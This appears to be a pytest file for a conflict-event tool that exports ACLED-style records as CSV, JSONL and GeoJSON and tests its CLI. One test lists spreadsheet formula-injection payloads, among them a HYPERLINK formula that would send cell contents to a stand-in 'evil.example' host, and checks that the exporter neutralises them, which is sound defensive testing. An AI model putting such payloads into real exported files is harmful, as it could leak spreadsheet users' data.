"""Exports: ACLED column names and order, evidence, GeoJSON geometry, and the CLI around them."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import make_article
from sitrep.cli import cli
from sitrep.records import CodedEvent, Extraction, Modality
from sitrep.report.export import ACLED_COLUMNS, ExportFormat, write_events
from sitrep.store import open_store

CAPTURE = CodedEvent(
    article_id="a1b2c3d4e5f60718", trigger_start=10, trigger_end=17, trigger="entered", component="t.v1",
    event_type="Battles", sub_event_type="Non-state actor overtakes territory", modality=Modality.REPORTED,
    confidence=0.7, event_date=date(2021, 8, 9), time_precision=1, actor1="Taliban",
    actor1_type="Rebel group", actor2=None, actor2_type=None, country="Afghanistan", country_code="AF",
    admin1="Baghlan", location="Karvand", geonameid=9001, latitude=36.1, longitude=68.2, geo_precision=1,
    fatalities=None, source="Valley Post", evidence_start=0, evidence_end=52,
    notes='Fighters entered Karvand, "residents" said on Monday.',
)
UNPLACED = replace(CAPTURE, location=None, latitude=None, longitude=None, country=None, admin1=None,
                   sub_event_type="Armed clash", fatalities=4, modality=Modality.ASSERTED)


def test_csv_has_acled_columns_first_then_evidence() -> None:
    out = io.StringIO()
    assert write_events([CAPTURE, UNPLACED], out, ExportFormat.CSV) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    header = out.getvalue().splitlines()[0].split(",")
    assert tuple(header[: len(ACLED_COLUMNS)]) == ACLED_COLUMNS
    assert header[len(ACLED_COLUMNS):] == ["evidence_article_id", "evidence_start", "evidence_end",
                                           "evidence_text", "confidence", "modality"]
    assert rows[0]["event_date"] == "2021-08-09"
    assert rows[0]["notes"] == CAPTURE.notes  # quotes and commas survive the CSV round trip
    assert (rows[1]["latitude"], rows[1]["fatalities"]) == ("", "4")


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1")


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_text_that_starts_a_formula_is_neutralised(formula: str) -> None:
    """Every text cell that a spreadsheet would evaluate starts with a quote; the text is kept after it."""
    hostile = replace(CAPTURE, notes=formula, actor1=formula, location=formula, source=formula,
                      admin1="Baghlan")
    out = io.StringIO()
    write_events([hostile], out, ExportFormat.CSV)
    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    for column in ("notes", "actor1", "location", "source", "evidence_text"):
        assert row[column] == "'" + formula, column
    assert row["admin1"] == "Baghlan"


def test_csv_numbers_stay_numbers_negative_too() -> None:
    """Coordinates west and south of zero are numbers, not quoted text; so are counts and offsets."""
    western = replace(CAPTURE, latitude=-12.5, longitude=-0.75, fatalities=0)
    out = io.StringIO()
    write_events([western], out, ExportFormat.CSV)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-12.5", "-0.75", "0")
    assert (row["evidence_start"], row["confidence"]) == ("0", "0.7")


def test_jsonl_nests_the_evidence() -> None:
    out = io.StringIO()
    write_events([CAPTURE], out, ExportFormat.JSONL)
    record = json.loads(out.getvalue())
    expected = {"article_id": CAPTURE.article_id, "start": 0, "end": 52, "text": CAPTURE.notes}
    assert record["evidence"] == expected
    assert record["confidence"] == 0.7
    assert "evidence_text" not in record


def test_geojson_points_are_lon_lat_and_unplaced_events_have_no_geometry() -> None:
    out = io.StringIO()
    write_events([CAPTURE, UNPLACED], out, ExportFormat.GEOJSON)
    collection = json.loads(out.getvalue())
    first, second = collection["features"]
    assert first["geometry"] == {"type": "Point", "coordinates": [68.2, 36.1]}
    assert first["properties"]["location"] == "Karvand"
    assert second["geometry"] is None


def test_empty_geojson_is_valid() -> None:
    out = io.StringIO()
    write_events([], out, ExportFormat.GEOJSON)
    assert json.loads(out.getvalue()) == {"type": "FeatureCollection", "features": []}


@pytest.fixture
def db_with_events(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'events.db'}"
    store = open_store(url)
    article = make_article(CAPTURE.notes, source="Valley Post", input="a.txt")
    store.save_batch([article], [])
    threat = replace(CAPTURE, article_id=article.id, modality=Modality.THREATENED, location="Sarband")
    store.save_extractions([(Extraction(article.id, ("t.v1",)),
                             [replace(CAPTURE, article_id=article.id), threat])])
    store.close()
    return url


def test_events_command_hides_threats_unless_asked(db_with_events: str) -> None:
    result = CliRunner().invoke(cli, ["events", "--db", db_with_events, "--json"])
    assert [e["location"] for e in json.loads(result.stdout)] == ["Karvand"]
    result = CliRunner().invoke(cli, ["events", "--db", db_with_events, "--json", "--all-modalities"])
    assert sorted(e["location"] for e in json.loads(result.stdout)) == ["Karvand", "Sarband"]
    result = CliRunner().invoke(cli, ["events", "--db", db_with_events, "--country", "Iraq", "--json"])
    assert json.loads(result.stdout) == []


def test_export_command_writes_a_file(db_with_events: str, tmp_path: Path) -> None:
    target = tmp_path / "events.geojson"
    result = CliRunner().invoke(cli, ["export", "--db", db_with_events, "--format", "geojson", "--mentions",
                                      "-o", str(target), "--since", "2021-08-01"])
    assert result.exit_code == 0
    assert "wrote 1 mentions" in result.stderr
    assert len(json.loads(target.read_text())["features"]) == 1
